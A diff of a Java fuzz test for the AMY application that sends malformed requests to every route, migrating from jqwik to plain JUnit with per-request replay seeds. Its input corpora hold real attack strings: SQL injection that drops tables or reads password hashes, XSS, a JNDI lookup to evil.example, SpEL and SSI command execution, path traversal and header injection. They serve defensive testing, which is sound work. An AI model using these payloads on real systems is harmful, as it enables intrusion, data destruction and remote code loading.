@@ -17,22 +17,10 @@ import java.util.TreeMap;
 import java.util.concurrent.atomic.AtomicReference;
 import java.util.regex.Matcher;
 import java.util.regex.Pattern;
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
-import net.jqwik.api.RandomGenerator;
 import org.carpentries.amy.support.AmyIT;
 import org.carpentries.amy.support.Api;
 import org.carpentries.amy.support.RawHttp;
-import net.jqwik.api.AfterFailureMode;
-import net.jqwik.api.EdgeCasesMode;
-import net.jqwik.api.ForAll;
-import net.jqwik.api.Property;
-import net.jqwik.api.Provide;
-import net.jqwik.api.ShrinkingMode;
-import net.jqwik.api.lifecycle.AfterProperty;
-import net.jqwik.api.lifecycle.BeforeProperty;
-import org.springframework.test.context.TestContextManager;
+import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.beans.factory.annotation.Qualifier;
 import org.springframework.web.bind.annotation.RequestBody;
@@ -42,16 +30,18 @@ import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
 import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
 
 /**
- * Sends thousands of malformed requests, generated with jqwik's arbitraries from a fixed seed and a corpus of known
- * attacks, to every route of AMY's running application (from Spring's handler mappings), as the admin and
- * anonymously. Every request carries at least one value AMY must refuse wherever the route could change something;
- * each answer must be a 4xx problem with a {@code code}, and every table of the event store and the read models must
- * be byte-identical before and after.
+ * Sends thousands of malformed requests, generated from a fixed seed and a corpus of known attacks, to every route of
+ * AMY's running application (from Spring's handler mappings), as the admin and anonymously. Every request carries at
+ * least one value AMY must refuse wherever the route could change something; each answer must be a 4xx problem with
+ * a {@code code}, and every table of the event store and the read models must be byte-identical before and after.
+ * Each request is drawn from a seed of its own, printed with any failure, so that one request can be replayed alone.
  */
 class HostileInputIT extends AmyIT {
 
     /** Requests in all: with about 110 routes and two callers, some 40 for each. */
     private static final int TRIES = 10_000;
+    /** The seed of the draws of routes, callers and the requests' own seeds. */
+    private static final long SEED = 20160406L;
     private static final byte[] ADMIN_AUTHORIZATION = ("Basic " + Base64.getEncoder().encodeToString((Api.ADMIN + ":"
             + Api.ADMIN_PASSWORD).getBytes(StandardCharsets.UTF_8))).getBytes(StandardCharsets.ISO_8859_1);
     /**
@@ -84,40 +74,44 @@ class HostileInputIT extends AmyIT {
         void apply(Request request, Random random);
     }
 
+    /** Values of one sort, drawn from the random source of a request. */
+    interface Values {
+        String draw(Random random);
+    }
+
     // ---- the values: corpora and generated ones ----
 
     private static final List<Character> UNSAFE = unsafeCharacters();
-    private static final Arbitrary<String> LETTERS = Arbitraries.strings()
-            .withChars("abcxyzÉéßøжЖשלוםمرحبا中文ひらがな한국어ñç ").ofMinLength(0).ofMaxLength(12);
+    private static final Values LETTERS = letters("abcxyzÉéßøжЖשלוםمرحبا中文ひらがな한국어ñç ", 0, 12);
     /** Text of any script with one control or direction character somewhere in it. */
-    private static final Arbitrary<String> TAINTED = Combinators.combine(LETTERS, Arbitraries.of(UNSAFE), LETTERS)
-            .as((a, c, b) -> a + c + b);
-    private static final Arbitrary<String> SQL = Arbitraries.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
+    private static final Values TAINTED = rnd -> LETTERS.draw(rnd) + pick(rnd, UNSAFE) + LETTERS.draw(rnd);
+    private static final Values SQL = of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
             "1; DELETE FROM token_entry", "\" OR \"\"=\"", "admin'--", "1 UNION SELECT password_hash FROM account",
             "'); TRUNCATE snapshot_event_entry; --", "x' AND pg_sleep(5)--", "$$; COPY x TO PROGRAM 'id'; $$");
-    private static final Arbitrary<String> SCRIPT = Arbitraries.of("<script>alert(1)</script>",
+    private static final Values SCRIPT = of("<script>alert(1)</script>",
             "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example/x}",
             "%s%s%s%n", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "<!--#exec cmd=\"id\"-->");
     /** Path segments, already encoded as they go on the wire; Spring's firewall or AMY's filter refuses each. */
-    private static final Arbitrary<String> TRAVERSAL = Arbitraries.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc",
+    private static final Values TRAVERSAL = of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc",
             "%2e%2e", "x%00", "%00", "..%5C..%5Cwindows", "x%2Fy", "..;", "x;jsessionid=1", "%252e%252e%252f",
             "x%0Ay", "x%7Fy", "%E2%80%AEgpj.exe", "%C2%85", "%0D%0ASet-Cookie:%20x=1", "x%09%1B%5B31m");
-    private static final Arbitrary<String> BAD_DATE = Arbitraries.of("2024-02-30", "2024-13-01", "99999-01-01",
+    private static final Values BAD_DATE = of("2024-02-30", "2024-13-01", "99999-01-01",
             "2024-01-01T00:00:00+25:00", "2024-01-01T24:61:00Z", "2024-1-1", "0000-00-00", "-1000000000-01-01",
             "2024-02-29T00:00:00[Europe/Atlantis]", "yesterday", "2024-01-01T00:00:00+99:99", "+999999999-12-31",
             // Syntactically fine but beyond PostgreSQL's timestamps: these answered 500 before Instants refused them.
             "-290000-01-01T00:00:00Z", "+999999-12-31T23:59:59Z", "-999999-01-01T00:00:00Z", "+10000-01-01T00:00:00Z");
-    private static final Arbitrary<String> BAD_NUMBER = Arbitraries.of("1e400", "-1e400", "1180591620717411303424",
+    private static final Values BAD_NUMBER = of("1e400", "-1e400", "1180591620717411303424",
             "NaN", "Infinity", "-0x1", "0x10", "١٢٣", "9".repeat(120), "1.5", "-2147483649", " 1", "1_000");
     /** Parameter names several routes know, which take a single number, date or instant. */
-    private static final Arbitrary<String> KNOWN = Arbitraries.of("page", "page_size", "as_of", "from", "to", "since",
+    private static final Values KNOWN = of("page", "page_size", "as_of", "from", "to", "since",
             "until", "start", "end", "before", "after");
-    private static final Arbitrary<String> UNKNOWN = Arbitraries.oneOf(
-            Arbitraries.of("q'", "<x>", "__proto__", "password", "1=1", "where", "order_by", "sort", "debug", "admin"),
-            Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(8).map(s -> "zz_" + s));
-    private static final Arbitrary<String> FIELD = Arbitraries.of("id", "name", "slug", "email", "notes", "title",
+    private static final Values ALPHA = letters("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 1, 8);
+    private static final Values UNKNOWN = oneOf(
+            of("q'", "<x>", "__proto__", "password", "1=1", "where", "order_by", "sort", "debug", "admin"),
+            rnd -> "zz_" + ALPHA.draw(rnd));
+    private static final Values FIELD = of("id", "name", "slug", "email", "notes", "title",
             "start", "end", "tags", "person_a", "strategy", "dry_run", "as_of", "latitude", "sequence_id");
-    private static final Arbitrary<String> BROKEN_JSON = Arbitraries.of("{", "{\"a\":}", "{'a':1}", "{\"a\":1,}",
+    private static final Values BROKEN_JSON = of("{", "{\"a\":}", "{'a':1}", "{\"a\":1,}",
             "{\"a\" 1}", "[1,2", "{\"a\":\"\\x\"}", "{\"a\":\"unterminated", "{\"a\":tru}", "{\"a\":01}",
             "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":--1}", "}{", "{\"a\":1}}", "{\"a\":\"\\uZZZZ\"}", "\u0000",
             "{\"name\":\"a\"\u0001}", "{/* comment */}", "{\"a\":1e}", "\uFEFF{\"a\":");
@@ -141,13 +135,47 @@ class HostileInputIT extends AmyIT {
         return chars;
     }
 
-    private static <T> T draw(Arbitrary<T> arbitrary, Random random) {
-        RandomGenerator<T> generator = arbitrary.generator(100);
-        return generator.next(random).value();
+    /** One of the list, each as likely. */
+    private static <T> T pick(Random random, List<T> values) {
+        return values.get(random.nextInt(values.size()));
+    }
+
+    /** One of the values, each as likely. */
+    private static Values of(String... values) {
+        List<String> list = List.of(values);
+        return rnd -> pick(rnd, list);
+    }
+
+    /** A value of one of the sorts, each sort as likely. */
+    private static Values oneOf(Values... sorts) {
+        List<Values> list = List.of(sorts);
+        return rnd -> pick(rnd, list).draw(rnd);
+    }
+
+    /** Strings of min to max characters of the alphabet (each distinct character as likely). */
+    private static Values letters(String alphabet, int min, int max) {
+        int[] chars = alphabet.chars().distinct().toArray();
+        return rnd -> {
+            int length = between(rnd, min, max);
+            StringBuilder out = new StringBuilder(length);
+            for (int i = 0; i < length; i++) {
+                out.append((char) chars[rnd.nextInt(chars.length)]);
+            }
+            return out.toString();
+        };
+    }
+
+    /** A number from lo to hi, both included. */
+    private static int between(Random random, int lo, int hi) {
+        return lo + random.nextInt(hi - lo + 1);
     }
 
     private static String enc(String s) {
         return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
+    }
+
+    private static String draw(Values values, Random random) {
+        return values.draw(random);
     }
 
     private static String jsonString(String s) {
@@ -175,25 +203,25 @@ class HostileInputIT extends AmyIT {
     private static final List<Mutation> QUERY_AND_HEADER = List.of(
             (r, rnd) -> {
                 r.kinds.add("query-unknown");
-                r.query.add(enc(draw(UNKNOWN, rnd)) + "=" + enc(draw(Arbitraries.oneOf(SQL, SCRIPT, LETTERS), rnd)));
+                r.query.add(enc(draw(UNKNOWN, rnd)) + "=" + enc(draw(oneOf(SQL, SCRIPT, LETTERS), rnd)));
             },
             (r, rnd) -> {
                 r.kinds.add("query-control");
-                r.query.add(enc(draw(Arbitraries.oneOf(KNOWN, UNKNOWN), rnd)) + "=" + enc(draw(TAINTED, rnd)));
+                r.query.add(enc(draw(oneOf(KNOWN, UNKNOWN), rnd)) + "=" + enc(draw(TAINTED, rnd)));
             },
             (r, rnd) -> {
                 r.kinds.add("query-bad-value");
-                r.query.add(enc(draw(KNOWN, rnd)) + "=" + enc(draw(Arbitraries.oneOf(BAD_DATE, BAD_NUMBER), rnd)));
+                r.query.add(enc(draw(KNOWN, rnd)) + "=" + enc(draw(oneOf(BAD_DATE, BAD_NUMBER), rnd)));
             },
             (r, rnd) -> {
                 r.kinds.add("query-repeated");
                 String name = draw(KNOWN, rnd);
                 r.query.add(name + "=1");
-                r.query.add(name + "=" + enc(draw(Arbitraries.of("2", "2016-04-06T17:05:00Z", "2016-04-06"), rnd)));
+                r.query.add(name + "=" + enc(draw(of("2", "2016-04-06T17:05:00Z", "2016-04-06"), rnd)));
             },
             (r, rnd) -> {
                 r.kinds.add("header-control");
-                String header = draw(Arbitraries.of("X-Change-Reason", "If-Match", "If-None-Match", "Accept",
+                String header = draw(of("X-Change-Reason", "If-Match", "If-None-Match", "Accept",
                         "X-Request-Id"), rnd);
                 String value = draw(TAINTED, rnd);
                 // Raw bytes where HTTP allows them (UTF-8 of C1 and direction characters), RFC 8187 otherwise.
@@ -210,19 +238,19 @@ class HostileInputIT extends AmyIT {
     private static final List<Mutation> PATH = List.of(
             (r, rnd) -> {
                 r.kinds.add("path-traversal");
-                String var = draw(Arbitraries.of(List.copyOf(r.vars.keySet())), rnd);
+                String var = pick(rnd, List.copyOf(r.vars.keySet()));
                 r.vars.put(var, draw(TRAVERSAL, rnd));
             },
             (r, rnd) -> {
                 r.kinds.add("path-control");
-                String var = draw(Arbitraries.of(List.copyOf(r.vars.keySet())), rnd);
+                String var = pick(rnd, List.copyOf(r.vars.keySet()));
                 r.vars.put(var, enc(draw(TAINTED, rnd)));
             });
 
     private static final List<Mutation> BODY = List.of(
             (r, rnd) -> json(r, "body-broken", draw(BROKEN_JSON, rnd)),
             (r, rnd) -> {
-                int depth = draw(Arbitraries.integers().between(33, 5000), rnd);
+                int depth = between(rnd, 33, 5000);
                 boolean arrays = rnd.nextBoolean();
                 json(r, "body-deep", arrays ? "[".repeat(depth) + "]".repeat(depth)
                         : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
@@ -239,12 +267,12 @@ class HostileInputIT extends AmyIT {
             (r, rnd) -> json(r, "body-long-number", "{" + jsonString(draw(FIELD, rnd)) + ":1"
                     + "0".repeat(101 + rnd.nextInt(500)) + "}"),
             (r, rnd) -> json(r, "body-huge-number", "{" + jsonString(draw(FIELD, rnd)) + ":"
-                    + draw(Arbitraries.of("1e400", "-1e400", "1.7976931348623159e308"), rnd) + "}"),
-            (r, rnd) -> json(r, "body-top-level", draw(Arbitraries.of("[]", "\"text\"", "42", "true",
+                    + draw(of("1e400", "-1e400", "1.7976931348623159e308"), rnd) + "}"),
+            (r, rnd) -> json(r, "body-top-level", draw(of("[]", "\"text\"", "42", "true",
                     "[{\"name\":\"x\"}]", "-0", "\"' OR 1=1\""), rnd)),
             (r, rnd) -> {
                 r.kinds.add("body-content-type");
-                r.contentType = draw(Arbitraries.of("text/plain", "application/xml", "text/html",
+                r.contentType = draw(of("text/plain", "application/xml", "text/html",
                         "application/octet-stream", "multipart/form-data; boundary=x"), rnd);
                 r.body = "{\"name\":\"x\"}".getBytes(StandardCharsets.UTF_8);
             });
@@ -255,14 +283,14 @@ class HostileInputIT extends AmyIT {
             (r, rnd) -> {
                 if (!r.vars.isEmpty()) {
                     r.kinds.add("path-injection");
-                    String var = draw(Arbitraries.of(List.copyOf(r.vars.keySet())), rnd);
-                    r.vars.put(var, enc(draw(Arbitraries.oneOf(SQL, SCRIPT, BAD_DATE, BAD_NUMBER), rnd)));
+                    String var = pick(rnd, List.copyOf(r.vars.keySet()));
+                    r.vars.put(var, enc(draw(oneOf(SQL, SCRIPT, BAD_DATE, BAD_NUMBER), rnd)));
                 }
             },
             (r, rnd) -> {
                 if (r.body == null) {
                     r.kinds.add("body-wrong-types");
-                    r.body = ("{" + jsonString(draw(FIELD, rnd)) + ":" + draw(Arbitraries.of("[]", "{}", "true",
+                    r.body = ("{" + jsonString(draw(FIELD, rnd)) + ":" + draw(of("[]", "{}", "true",
                             "1180591620717411303424", "-0", "\"NaN\"", "\"2024-02-30\"", "\"1e400\"",
                             jsonString("<script>alert(1)</script>")), rnd) + "}").getBytes(StandardCharsets.UTF_8);
                     r.contentType = "application/json";
@@ -277,56 +305,20 @@ class HostileInputIT extends AmyIT {
     private final Set<String> reached = new java.util.TreeSet<>();
     private final List<String> wrong = new ArrayList<>();
     private int tried;
-    private long start;
-    private static List<Route> routes;
 
-    /** jqwik runs this class, not JUnit Jupiter: Spring's test context (the one AmyIT shares) is joined by hand. */
-    @BeforeProperty
-    void joinTheApplication() throws Exception {
-        new TestContextManager(getClass()).prepareTestInstance(this);
-        routes = routes();
+    @Test
+    void malformedRequestsAreRefusedWithProblems() {
+        List<Route> routes = routes();
         before = settledFingerprint();
         eventsBefore = eventCount();
-        start = System.nanoTime();
-    }
-
-    @Provide
-    Arbitrary<Route> everyRoute() {
-        return Arbitraries.of(routes);
-    }
-
-    @Property(tries = TRIES, seed = "20160406", shrinking = ShrinkingMode.OFF, edgeCases = EdgeCasesMode.NONE,
-            afterFailure = AfterFailureMode.SAMPLE_FIRST)
-    void malformedRequestsAreRefusedWithProblems(@ForAll("everyRoute") Route route, @ForAll boolean asAdmin,
-                                                 @ForAll long seed) {
-        Random random = new Random(seed);
-        Request request = generate(route, random);
-        if (asAdmin) {
-            request.headers.put("Authorization", ADMIN_AUTHORIZATION);
+        long start = System.nanoTime();
+        Random draws = new Random(SEED);
+        for (int i = 0; i < TRIES; i++) {
+            Route route = pick(draws, routes);
+            boolean asAdmin = draws.nextBoolean();
+            long seed = draws.nextLong();
+            send(route, asAdmin, seed);
         }
-        String path = path(route, request);
-        RawHttp.Response response;
-        try {
-            response = new RawHttp(port).send(route.method(), path, headers(request), request.body);
-        } catch (RuntimeException e) {
-            wrong.add(route.method() + " " + path + " " + request.kinds + ": no answer: " + e);
-            return;
-        }
-        tried++;
-        reached.add((asAdmin ? "admin " : "anonymous ") + route.method() + " " + route.pattern());
-        byStatus.merge(response.status(), 1, Integer::sum);
-        request.kinds.forEach(k -> byKind.merge(k, 1, Integer::sum));
-        String code = response.code();
-        byCode.merge(String.valueOf(code), 1, Integer::sum);
-        if (response.status() < 400 || response.status() >= 500
-                || !response.contentType().startsWith("application/problem+json") || code == null) {
-            wrong.add((asAdmin ? "admin " : "anonymous ") + route.method() + " " + path + " " + request.kinds
-                    + " -> " + response);
-        }
-    }
-
-    @AfterProperty
-    void nothingChangedAndEveryRouteWasReached() {
         long seconds = Duration.ofNanos(System.nanoTime() - start).toSeconds();
         System.out.printf("HostileInputIT: %d requests to %d routes in %d s%n  by status: %s%n  by code: %s%n"
                 + "  by kind: %s%n", tried, routes.size(), seconds, byStatus, byCode, byKind);
@@ -337,6 +329,34 @@ class HostileInputIT extends AmyIT {
         assertThat(reached).as("every route, as admin and anonymously").hasSize(routes.size() * 2);
         assertThat(eventCount()).isEqualTo(eventsBefore);
         assertThat(settledFingerprint()).isEqualTo(before);
+    }
+
+    /** One malformed request to the route, drawn from its own seed; what is wrong with the answer goes to wrong. */
+    private void send(Route route, boolean asAdmin, long seed) {
+        Random random = new Random(seed);
+        Request request = generate(route, random);
+        if (asAdmin) {
+            request.headers.put("Authorization", ADMIN_AUTHORIZATION);
+        }
+        String path = path(route, request);
+        String caller = "seed " + seed + " " + (asAdmin ? "admin " : "anonymous ");
+        RawHttp.Response response;
+        try {
+            response = new RawHttp(port).send(route.method(), path, headers(request), request.body);
+        } catch (RuntimeException e) {
+            wrong.add(caller + route.method() + " " + path + " " + request.kinds + ": no answer: " + e);
+            return;
+        }
+        tried++;
+        reached.add((asAdmin ? "admin " : "anonymous ") + route.method() + " " + route.pattern());
+        byStatus.merge(response.status(), 1, Integer::sum);
+        request.kinds.forEach(k -> byKind.merge(k, 1, Integer::sum));
+        String code = response.code();
+        byCode.merge(String.valueOf(code), 1, Integer::sum);
+        if (response.status() < 400 || response.status() >= 500
+                || !response.contentType().startsWith("application/problem+json") || code == null) {
+            wrong.add(caller + route.method() + " " + path + " " + request.kinds + " -> " + response);
+        }
     }
 
     private Request generate(Route route, Random random) {
@@ -414,14 +434,28 @@ class HostileInputIT extends AmyIT {
         return routes;
     }
 
-    /** The fingerprint once the processors have finished what earlier tests left them: equal twice in a row. */
+    /**
+     * The fingerprint once the processors have finished what earlier tests left them: equal twice in a row, with every
+     * tracking token at the newest event and holding no gaps. A processor with no handler for the newest event moves
+     * its token past it only on its next claim; a gap stays in a token until Axon's gap timeout: either change, made
+     * during the requests without any write, would look like one.
+     */
     private Map<String, String> settledFingerprint() {
         AtomicReference<Map<String, String>> last = new AtomicReference<>(Map.of());
-        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500)).until(() -> {
+        await().atMost(Duration.ofSeconds(180)).pollInterval(Duration.ofMillis(500)).until(() -> {
             Map<String, String> now = fingerprint();
-            return now.equals(last.getAndSet(now));
+            return now.equals(last.getAndSet(now)) && unsettledTokens() == 0;
         });
         return last.get();
+    }
+
+    /** Tracking tokens (stored as JSON) behind the newest event or with gaps. */
+    private long unsettledTokens() {
+        Long n = jdbc.queryForObject("SELECT count(*) FROM (SELECT convert_from(token, 'UTF8')::jsonb AS t "
+                + "FROM token_entry WHERE token IS NOT NULL) k WHERE (t ->> 'index')::bigint < (SELECT "
+                + "coalesce(max(global_index), 0) FROM domain_event_entry) OR jsonb_array_length(coalesce(t -> 'gaps', "
+                + "'[]'::jsonb)) > 0", Long.class);
+        return n == null ? 0 : n;
     }
 
     /** Per table of schema public: its row count and the MD5 of its rows as text, in order. */
